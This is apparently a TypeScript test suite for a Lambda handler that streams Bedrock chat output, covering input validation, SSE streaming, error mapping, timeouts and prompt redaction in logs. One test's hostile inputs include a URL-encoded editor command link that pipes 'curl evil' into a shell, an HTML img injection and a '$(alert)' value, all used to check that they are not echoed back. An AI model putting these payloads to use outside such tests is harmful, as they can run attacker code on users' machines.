import * as assert from 'node:assert/strict';
import type { ConverseStreamCommand, ConverseStreamOutput } from '@aws-sdk/client-bedrock-runtime';
import type { Context } from 'aws-lambda';
import { decodeSseEvent, type StreamEvent } from '../../../../src/protocol/wire';
import type { ConverseStreamClient } from '../../../../infra/lambda/bedrock';
import { readConfig, type HandlerConfig } from '../../../../infra/lambda/config';
import { mapError } from '../../../../infra/lambda/errors';
import { createHandler, handler as lambdaExport, type ChatEvent } from '../../../../infra/lambda/handler';
import { LocalResponseStream, localLambdaRuntime, PRELUDE_DELIMITER } from '../../../../infra/local/lambdaShim';

const MODEL = 'us.anthropic.claude-sonnet-4-20250514-v1:0';
const OTHER = 'anthropic.claude-3-haiku-20240307-v1:0';

function config(over: Partial<HandlerConfig> = {}): HandlerConfig {
  return { ...readConfig({ ALLOWED_MODEL_IDS: `${MODEL},${OTHER}`, MAX_TOKENS_LIMIT: '1000', MAX_BODY_BYTES: '2048' }), ...over };
}

type Script = (signal: AbortSignal | undefined) => AsyncGenerator<ConverseStreamOutput>;

/** A Bedrock client double: records commands, answers with a script or throws. */
function fakeClient(script: Script | Error) {
  const calls: ConverseStreamCommand[] = [];
  const client: ConverseStreamClient = {
    async send(command, options) {
      calls.push(command);
      if (script instanceof Error) throw script;
      return { stream: script(options?.abortSignal) };
    },
  };
  return { client, calls };
}

function named(name: string, message = `${name} happened`): Error {
  const err = new Error(message);
  err.name = name;
  Object.assign(err, { $fault: 'client', $metadata: {} });
  return err;
}

const delta = (text: string): ConverseStreamOutput => ({ contentBlockDelta: { contentBlockIndex: 0, delta: { text } } });
const stop = (stopReason = 'end_turn'): ConverseStreamOutput => ({ messageStop: { stopReason: stopReason as 'end_turn' } });
const meta = (): ConverseStreamOutput => ({ metadata: { usage: { inputTokens: 7, outputTokens: 3, totalTokens: 10 }, metrics: { latencyMs: 42 } } });

function answer(...texts: string[]): Script {
  return async function* () {
    yield { messageStart: { role: 'assistant' } };
    for (const t of texts) yield delta(t);
    yield { contentBlockStop: { contentBlockIndex: 0 } };
    yield stop();
    yield meta();
  };
}

/** Captures what the handler writes, the way the runtime sends it: prelude, 8 NULs, body. */
function capture(sinkWrite?: (chunk: Buffer, cb: () => void) => void) {
  const chunks: Buffer[] = [];
  let ended = false;
  const stream = new LocalResponseStream({
    write(chunk, cb) {
      chunks.push(chunk);
      if (sinkWrite) sinkWrite(chunk, cb);
      else cb();
    },
    end() {
      ended = true;
    },
  });
  return {
    stream,
    get ended() {
      return ended;
    },
    chunks,
    /** Status, headers and body; throws if the prelude is missing (status would be lost). */
    result() {
      const all = Buffer.concat(chunks);
      const at = all.indexOf(PRELUDE_DELIMITER);
      assert.ok(at > 0, 'the response starts with a prelude');
      const prelude = JSON.parse(all.subarray(0, at).toString('utf8')) as { statusCode: number; headers: Record<string, string> };
      return { status: prelude.statusCode, headers: prelude.headers, body: all.subarray(at + 8).toString('utf8') };
    },
  };
}

function sseEvents(body: string): StreamEvent[] {
  return body
    .split('\n\n')
    .filter((b) => b.trim())
    .map((block) => {
      const event = /^event: (.*)$/m.exec(block)?.[1];
      const data = /^data: (.*)$/m.exec(block)?.[1] ?? '';
      const decoded = decodeSseEvent(event, data);
      assert.ok(decoded, `known event in ${block}`);
      return decoded;
    });
}

const context = (remainingMs = 60_000): Context => {
  const deadline = Date.now() + remainingMs;
  return { awsRequestId: 'req-1', getRemainingTimeInMillis: () => deadline - Date.now() } as Context;
};

function event(body: unknown, accept = 'text/event-stream', over: Partial<ChatEvent> = {}): ChatEvent {
  return { body: typeof body === 'string' ? body : JSON.stringify(body), isBase64Encoded: false, headers: { Accept: accept }, ...over };
}

async function run(script: Script | Error, ev: ChatEvent, opts: { cfg?: Partial<HandlerConfig>; remainingMs?: number } = {}) {
  const { client, calls } = fakeClient(script);
  const logs: string[] = [];
  const h = createHandler({ client, config: config(opts.cfg), runtime: localLambdaRuntime, log: (l) => logs.push(l) });
  const out = capture();
  await h(ev, out.stream, context(opts.remainingMs));
  return { out, calls, logs, result: out.result() };
}

describe('infra/lambda handler: validation before the first byte', () => {
  const cases: [string, ChatEvent, number, string, RegExp][] = [
    ['bad JSON', event('{"prompt":'), 400, 'BadRequest', /not valid JSON/],
    ['missing prompt', event({}), 400, 'BadRequest', /non-empty "prompt"/],
    ['empty prompt', event({ prompt: '' }), 400, 'BadRequest', /non-empty "prompt"/],
    ['prompt of the wrong type', event({ prompt: ['x'] }), 400, 'BadRequest', /must be a string/],
    ['messages ending in an assistant turn', event({ messages: [{ role: 'user', content: 'a' }, { role: 'assistant', content: 'b' }] }), 400, 'BadRequest', /end with a user turn/],
    ['an empty body', event('', 'text/event-stream', { body: null }), 400, 'BadRequest', /empty/],
    ['a body over MAX_BODY_BYTES', event({ prompt: 'x'.repeat(3000) }), 413, 'PayloadTooLarge', /limit is 2048/],
    ['a model that is not allowed', event({ prompt: 'x', modelId: 'meta.llama3' }), 400, 'ModelNotAllowed', /not allowed/],
  ];
  for (const [name, ev, status, code, message] of cases) {
    it(`${name} → ${status} ${code}, JSON, Bedrock never called`, async () => {
      const { result, calls } = await run(answer('never'), ev);
      assert.equal(result.status, status);
      assert.equal(result.headers['content-type'], 'application/json');
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, code);
      assert.match(body.error.message, message);
      assert.equal(calls.length, 0);
    });
  }

  it("accepts the seed's {message}, uses the default model and clamps maxTokens", async () => {
    const { result, calls } = await run(answer('ok'), event({ message: 'hello', maxTokens: 999_999, temperature: 0.3, system: 'sys' }));
    assert.equal(result.status, 200);
    const input = calls[0].input;
    assert.equal(input.modelId, MODEL);
    assert.deepEqual(input.messages, [{ role: 'user', content: [{ text: 'hello' }] }]);
    assert.deepEqual(input.system, [{ text: 'sys' }]);
    assert.deepEqual(input.inferenceConfig, { maxTokens: 1000, temperature: 0.3 });
  });

  it('passes an allowed non-default model and the whole conversation', async () => {
    const messages = [
      { role: 'user', content: 'a' },
      { role: 'assistant', content: 'b' },
      { role: 'user', content: 'c' },
    ];
    const { calls } = await run(answer('ok'), event({ messages, modelId: OTHER, maxTokens: 5 }));
    assert.equal(calls[0].input.modelId, OTHER);
    assert.equal(calls[0].input.messages?.length, 3);
    assert.equal(calls[0].input.inferenceConfig?.maxTokens, 5);
  });

  it('more messages than MAX_MESSAGES → 400 with the limit, Bedrock never called', async () => {
    const turns = (n: number) => Array.from({ length: n }, (_, i) => ({ role: i % 2 === 0 ? 'user' : 'assistant', content: `t${i}` }));
    const over = await run(answer('never'), event({ messages: turns(5) }), { cfg: { maxMessages: 3 } });
    assert.equal(over.result.status, 400);
    assert.deepEqual(JSON.parse(over.result.body).error, {
      code: 'BadRequest',
      message: '"messages" has 5 entries; this endpoint accepts at most 3. Start a new conversation or leave out earlier turns.',
    });
    assert.equal(over.calls.length, 0);
    const at = await run(answer('ok'), event({ messages: turns(3) }), { cfg: { maxMessages: 3 } });
    assert.equal(at.result.status, 200);
    // The default (no MAX_MESSAGES) is 200.
    const big = { maxBodyBytes: 1 << 20, maxMessages: readConfig({}).maxMessages };
    assert.equal((await run(answer('never'), event({ messages: turns(201) }), { cfg: big })).result.status, 400);
    assert.equal((await run(answer('ok'), event({ messages: turns(199) }), { cfg: big })).result.status, 200);
  });

  it('bad JSON: a fixed message that never quotes the body (JSON.parse quotes it)', async () => {
    for (const body of ['SECRET prompt, not JSON at all', '{"prompt": "SECRET prompt" oops}', "{'prompt': 'SECRET'}"]) {
      let parserSays = '';
      try {
        JSON.parse(body);
      } catch (err) {
        parserSays = (err as Error).message;
      }
      const { result } = await run(answer('never'), event(body));
      const message = JSON.parse(result.body).error.message as string;
      assert.match(message, /^Request body is not valid JSON( \(at position \d+\))?\.$/);
      assert.doesNotMatch(message, /SECRET/);
      if (/SECRET/.test(parserSays)) assert.notEqual(message, parserSays, 'the parser quoted the body; we did not');
    }
  });

  it('ModelNotAllowed never echoes a requested id that is not a plain model id', async () => {
    const hostile = [
      '[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
      'meta.llama3 <img src=x>',
      `meta.${'x'.repeat(100)}`,
      'model\nwith a newline',
      '$(alert) meta',
    ];
    for (const modelId of hostile) {
      const { result } = await run(answer('never'), event({ prompt: 'x', modelId }));
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, 'ModelNotAllowed');
      assert.equal(body.error.message, `The requested model is not allowed by this endpoint. Allowed: ${MODEL}, ${OTHER}.`);
    }
    const plain = await run(answer('never'), event({ prompt: 'x', modelId: 'arn:aws:bedrock:us-east-1::foundation-model/meta.llama3-8b' }));
    assert.match(JSON.parse(plain.result.body).error.message, /^Model "arn:aws:bedrock:us-east-1::foundation-model\/meta\.llama3-8b" is not allowed/);
  });

  it('decodes a base64 body', async () => {
    const body = Buffer.from(JSON.stringify({ prompt: '日本語で' })).toString('base64');
    const { calls, result } = await run(answer('ok'), event(body, 'text/event-stream', { isBase64Encoded: true }));
    assert.equal(result.status, 200);
    assert.deepEqual(calls[0].input.messages?.[0].content, [{ text: '日本語で' }]);
  });
});

describe('infra/lambda handler: streaming', () => {
  it('SSE: start → delta* → end with stopReason, usage and latency; prelude first', async () => {
    const { out, result } = await run(answer('Hello', ', ', 'こんにちは'), event({ prompt: 'hi' }));
    assert.ok(out.chunks[0].toString('utf8').startsWith('{"statusCode":200'), 'the first bytes are the prelude');
    assert.equal(result.status, 200);
    assert.equal(result.headers['content-type'], 'text/event-stream');
    assert.deepEqual(sseEvents(result.body), [
      { type: 'start', id: 'req-1', model: MODEL },
      { type: 'delta', text: 'Hello' },
      { type: 'delta', text: ', ' },
      { type: 'delta', text: 'こんにちは' },
      { type: 'end', stopReason: 'end_turn', usage: { inputTokens: 7, outputTokens: 3 }, latencyMs: 42 },
    ]);
    assert.equal(out.ended, true);
  });

  it('plain text when accept is not SSE: the raw text only', async () => {
    const { result } = await run(answer('Hello', ' world'), event({ prompt: 'hi' }, 'text/plain'));
    assert.equal(result.headers['content-type'], 'text/plain; charset=utf-8');
    assert.equal(result.body, 'Hello world');
  });

  it('an empty answer still ends with one end event', async () => {
    const { result } = await run(answer(), event({ prompt: 'hi' }));
    assert.deepEqual(
      sseEvents(result.body).map((e) => e.type),
      ['start', 'end'],
    );
  });

  it('a loop that ends without messageStop is Truncated, never a success', async () => {
    const { result } = await run(async function* () {
      yield delta('partial');
    }, event({ prompt: 'hi' }));
    const events = sseEvents(result.body);
    assert.deepEqual(events.at(-1), { type: 'error', code: 'Truncated', message: 'The answer from Bedrock ended before it was complete.', retryable: true });
    assert.equal(events.filter((e) => e.type === 'end' || e.type === 'error').length, 1);
  });

  it('Truncated before any text is a 502 JSON error', async () => {
    const { result } = await run(async function* () {
      yield { messageStart: { role: 'assistant' } };
    }, event({ prompt: 'hi' }));
    assert.equal(result.status, 502);
    assert.equal(JSON.parse(result.body).error.code, 'Truncated');
  });

  it('forwards each delta as it arrives and honours backpressure', async () => {
    let produced = 0;
    const big = 'x'.repeat(4096);
    const script: Script = async function* () {
      yield { messageStart: { role: 'assistant' } };
      for (let i = 0; i < 40; i++) {
        produced++;
        yield delta(`${i}:${big}`);
      }
      yield stop();
    };
    const { client } = fakeClient(script);
    const pending: (() => void)[] = [];
    let blocked = true;
    const out = capture((_chunk, cb) => (blocked ? pending.push(cb) : cb()));
    const h = createHandler({ client, config: config(), runtime: localLambdaRuntime, log: () => {} });
    const done = h(event({ prompt: 'hi' }), out.stream, context());
    await new Promise((r) => setTimeout(r, 50));
    assert.ok(produced < 10, `stopped pulling from Bedrock while the stream was full (pulled ${produced} of 40)`);
    blocked = false;
    pending.splice(0).forEach((cb) => cb());
    await done;
    assert.equal(produced, 40);
    const texts = sseEvents(out.result().body).filter((e) => e.type === 'delta');
    assert.equal(texts.length, 40);
    assert.deepEqual(
      texts.map((e) => (e as { text: string }).text.split(':')[0]),
      Array.from({ length: 40 }, (_, i) => String(i)),
    );
  });
});

describe('infra/lambda handler: errors', () => {
  const table: [string, number, boolean][] = [
    ['AccessDeniedException', 403, false],
    ['ValidationException', 400, false],
    ['ThrottlingException', 429, true],
    ['ServiceUnavailableException', 503, true],
    ['InternalServerException', 502, true],
    ['CredentialsProviderError', 500, false],
    ['TokenProviderError', 500, false],
    ['SomethingNewException', 502, false],
  ];
  for (const [name, status, retryable] of table) {
    it(`${name} before the stream → HTTP ${status}`, async () => {
      // The SDK's credential and token errors are plain errors (no service `$fault`).
      const error = name.endsWith('ProviderError') ? Object.assign(new Error(`${name} happened`), { name }) : named(name);
      const { result } = await run(error, event({ prompt: 'hi' }));
      assert.equal(result.status, status);
      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
      assert.equal(body.error.code, name);
      assert.equal(mapError(error).retryable, retryable);
      if (name === 'AccessDeniedException') assert.match(body.error.message, /Bedrock console.*Model access/);
      if (name.endsWith('ProviderError')) assert.match(body.error.message, /execution role/);
    });
  }

  const ACCOUNT = '123456789012';
  const ROLE = `arn:aws:sts::${ACCOUNT}:assumed-role/AskBedrock-ChatFunctionServiceRole-1A2B3C/AskBedrock-ChatFunction-4D5E6F`;
  const DENIED = `User: ${ROLE} is not authorized to perform: bedrock:InvokeModelWithResponseStream on resource: arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/${MODEL} because no identity-based policy allows the bedrock:InvokeModelWithResponseStream action`;

  it('AccessDenied: the client gets a hint without account or role; the log gets the full text', async () => {
    const { result, logs } = await run(named('AccessDeniedException', DENIED), event({ prompt: 'hi' }));
    assert.equal(result.status, 403);
    const message = JSON.parse(result.body).error.message as string;
    assert.match(message, /Bedrock denied access.*Bedrock console \(Model access\).*function's log/);
    assert.doesNotMatch(result.body, new RegExp(`${ACCOUNT}|assumed-role|arn:aws`));
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.errorMessage, message);
    assert.equal(line.errorDetail, DENIED);
  });

  it('AccessDenied after text: the error event carries the hint only', async () => {
    const { result } = await run(async function* () {
      yield delta('some text');
      throw named('accessDeniedException', DENIED);
    }, event({ prompt: 'hi' }));
    const last = sseEvents(result.body).at(-1) as { code: string; message: string };
    assert.equal(last.code, 'AccessDeniedException');
    assert.doesNotMatch(last.message, new RegExp(`${ACCOUNT}|assumed-role`));
  });

  it("Bedrock text that quotes the request: never in the client's message, in the log only with LOG_PROMPTS", async () => {
    const prompt = `Please summarise SECRET-${'the quarterly numbers for the board '.repeat(8)}now`;
    const system = `You are SECRET-SYSTEM ${'and always answer in formal English '.repeat(3)}`;
    const quoting = `Malformed input request: #/messages/0/content/0/text: value "${prompt}" and system "${system}" were rejected, account ${ACCOUNT}.`;
    const ev = event({ prompt, system });
    const substrings = (text: string) => Array.from({ length: text.length - 39 }, (_, i) => text.slice(i, i + 40));
    const echoes = (text: string) => [...substrings(prompt), ...substrings(system)].filter((piece) => text.includes(piece));

    const before = await run(named('ValidationException', quoting), ev);
    assert.equal(before.result.status, 400);
    const message = JSON.parse(before.result.body).error.message as string;
    assert.match(message, /^Malformed input request: /, 'what Bedrock said is still there');
    assert.deepEqual(echoes(message), []);
    assert.ok(message.length <= 100, `short: ${message.length}`);
    assert.deepEqual(echoes(before.logs[0]), [], 'the log does not keep the prompt by default');
    assert.match(JSON.parse(before.logs[0]).errorDetail, /Malformed input request/);

    const after = await run(async function* () {
      yield delta('some text');
      throw named('validationException', quoting);
    }, ev);
    const last = sseEvents(after.result.body).at(-1) as { code: string; message: string };
    assert.equal(last.code, 'ValidationException');
    assert.deepEqual(echoes(last.message), []);
    assert.doesNotMatch(last.message, new RegExp(ACCOUNT));

    const logged = await run(named('ValidationException', quoting), ev, { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logged.logs[0]).errorDetail, quoting, 'LOG_PROMPTS keeps the full text');
    assert.deepEqual(echoes(JSON.parse(logged.result.body).error.message), [], 'the client never gets it');
  });

  it('Bedrock text that quotes a multi-line prompt JSON-escaped: not in the client message, nor in the log without LOG_PROMPTS', async () => {
    const prompt = 'SECRET line one of the plan\nwire the funds on friday\n\tto the usual account\nand tell no one';
    const ev = event({ prompt });
    const quoting = `Malformed input request: #/messages/0/content/0/text: value ${JSON.stringify(prompt)} is not valid`;
    const leaks = (text: string) => /SECRET|wire the funds|usual account|tell no one/.test(text);

    const before = await run(named('ValidationException', quoting), ev);
    const message = JSON.parse(before.result.body).error.message as string;
    assert.match(message, /^Malformed input request: /);
    assert.ok(!leaks(message), message);
    assert.ok(!leaks(before.logs[0]), before.logs[0]);
    assert.match(JSON.parse(before.logs[0]).errorDetail, /Malformed input request/);

    const after = await run(async function* () {
      yield delta('some text');
      throw named('validationException', quoting);
    }, ev);
    const last = sseEvents(after.result.body).at(-1) as { message: string };
    assert.ok(!leaks(last.message), last.message);
    assert.ok(!leaks(after.logs[0]), after.logs[0]);

    const logged = await run(named('ValidationException', quoting), ev, { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logged.logs[0]).errorDetail, quoting, 'LOG_PROMPTS keeps the full text');
    assert.ok(!leaks(JSON.parse(logged.result.body).error.message as string));
  });

  it('an in-stream exception before any text still gets its HTTP status', async () => {
    const { result } = await run(async function* () {
      yield { messageStart: { role: 'assistant' } };
      throw named('throttlingException', 'Too many tokens');
    }, event({ prompt: 'hi' }));
    assert.equal(result.status, 429);
    assert.deepEqual(JSON.parse(result.body), { error: { code: 'ThrottlingException', message: 'Too many tokens' } });
  });

  it('an in-stream exception after text → exactly one error event, retryable set', async () => {
    for (const [name, retryable] of [
      ['throttlingException', true],
      ['modelStreamErrorException', true],
      ['validationException', false],
    ] as const) {
      const { result } = await run(async function* () {
        yield delta('some text');
        throw named(name);
      }, event({ prompt: 'hi' }));
      assert.equal(result.status, 200);
      const events = sseEvents(result.body);
      assert.deepEqual(
        events.map((e) => e.type),
        ['start', 'delta', 'error'],
      );
      const err = events[2] as Extract<StreamEvent, { type: 'error' }>;
      assert.equal(err.code, name[0].toUpperCase() + name.slice(1));
      assert.equal(err.retryable, retryable, name);
    }
  });

  it('plain text: an error after text appends the blog\'s [ERROR] trailer', async () => {
    const { result } = await run(async function* () {
      yield delta('partial answer');
      throw named('throttlingException', 'Too many tokens');
    }, event({ prompt: 'hi' }, '*/*'));
    assert.equal(result.body, 'partial answer\n[ERROR]\nToo many tokens\n');
  });

  it('aborts Bedrock before the function times out: Timeout (504 before text, error event after)', async () => {
    const stalls = (withText: boolean): Script =>
      async function* (signal) {
        if (withText) yield delta('slow');
        await new Promise((_, reject) =>
          signal?.addEventListener('abort', () => {
            const e = new Error('Request aborted');
            e.name = 'AbortError';
            reject(e);
          }),
        );
      };
    const started = Date.now();
    const before = await run(stalls(false), event({ prompt: 'hi' }), { remainingMs: 2100, cfg: { abortMarginMs: 2000 } });
    assert.ok(Date.now() - started < 1000, 'aborted at remaining time minus the margin');
    assert.equal(before.result.status, 504);
    assert.equal(JSON.parse(before.result.body).error.code, 'Timeout');
    const after = await run(stalls(true), event({ prompt: 'hi' }), { remainingMs: 2100, cfg: { abortMarginMs: 2000 } });
    assert.equal(sseEvents(after.result.body).at(-1)?.type, 'error');
    assert.equal((sseEvents(after.result.body).at(-1) as { code: string }).code, 'Timeout');
  });

  it('a socket failure mid-stream is reported as Truncated', async () => {
    const { result } = await run(async function* () {
      yield delta('a');
      throw Object.assign(new Error('socket hang up'), { name: 'TimeoutError' });
    }, event({ prompt: 'hi' }));
    const last = sseEvents(result.body).at(-1) as { code: string; message: string; retryable: boolean };
    assert.equal(last.code, 'Truncated');
    assert.match(last.message, /socket hang up/);
    assert.equal(last.retryable, true);
  });
});

describe('infra/lambda handler: logging', () => {
  it('one JSON line per request with timings and usage, without the prompt by default', async () => {
    const { logs } = await run(answer('a', 'b'), event({ prompt: 'SECRET question', system: 'SECRET system' }));
    assert.equal(logs.length, 1);
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.requestId, 'req-1');
    assert.equal(line.model, MODEL);
    assert.equal(line.status, 200);
    assert.equal(line.stopReason, 'end_turn');
    assert.equal(line.inputTokens, 7);
    assert.equal(line.outputTokens, 3);
    assert.equal(typeof line.timeToFirstTokenMs, 'number');
    assert.equal(typeof line.durationMs, 'number');
    assert.doesNotMatch(logs[0], /SECRET/);
  });

  it('includes the prompt only with LOG_PROMPTS=true', async () => {
    const { logs } = await run(answer('a'), event({ prompt: 'SECRET question' }), { cfg: { logPrompts: true } });
    assert.equal(JSON.parse(logs[0]).prompt, 'SECRET question');
  });

  it('logs errors with their code and status', async () => {
    const { logs } = await run(named('ThrottlingException'), event({ prompt: 'hi' }));
    const line = JSON.parse(logs[0]) as Record<string, unknown>;
    assert.equal(line.level, 'error');
    assert.equal(line.status, 429);
    assert.equal(line.errorCode, 'ThrottlingException');
  });
});

describe('infra/lambda config and export', () => {
  it('reads the allowed models; the default model is always allowed', () => {
    const c = readConfig({ ALLOWED_MODEL_IDS: ' a , b ', MAX_TOKENS_LIMIT: '50' });
    assert.deepEqual(c.allowedModelIds, ['a', 'b']);
    assert.equal(c.defaultModelId, 'a');
    assert.equal(c.maxTokensLimit, 50);
    assert.equal(c.defaultMaxTokens, 50);
    assert.equal(c.logPrompts, false);
    assert.deepEqual(readConfig({ MODEL_ID: 'x', ALLOWED_MODEL_IDS: 'a' }).allowedModelIds, ['x', 'a']);
    assert.throws(() => readConfig({ MAX_BODY_BYTES: 'lots' }), /MAX_BODY_BYTES/);
    assert.equal(c.maxMessages, 200);
    assert.equal(readConfig({ MAX_MESSAGES: '12' }).maxMessages, 12);
    assert.throws(() => readConfig({ MAX_MESSAGES: '0' }), /MAX_MESSAGES/);
  });

  it('outside Lambda (no awslambda runtime) the default export is undefined, not a crash', () => {
    assert.equal(lambdaExport, undefined);
  });
});

describe('infra/lambda handler: unexpected failures', () => {
  it('a bug after the stream opened still ends it with one InternalError event, then rethrows', async () => {
    const { client } = fakeClient(answer('a', 'b'));
    const logs: string[] = [];
    const h = createHandler({ client, config: config(), runtime: localLambdaRuntime, log: (l) => logs.push(l) });
    const out = capture();
    let writes = 0;
    const original = out.stream.write.bind(out.stream);
    // Fail the third write (the second delta) synchronously, as a bug in the writer would.
    (out.stream as { write: typeof original }).write = ((...args: Parameters<typeof original>) => {
      if (++writes === 3) throw new TypeError('bug');
      return original(...args);
    }) as typeof original;
    await assert.rejects(h(event({ prompt: 'hi' }), out.stream, context()), /bug/);
    const events = sseEvents(out.result().body);
    assert.deepEqual(events.at(-1), { type: 'error', code: 'InternalError', message: 'The endpoint failed unexpectedly.', retryable: false });
    assert.equal(JSON.parse(logs[0]).errorCode, 'InternalError');
  });
});
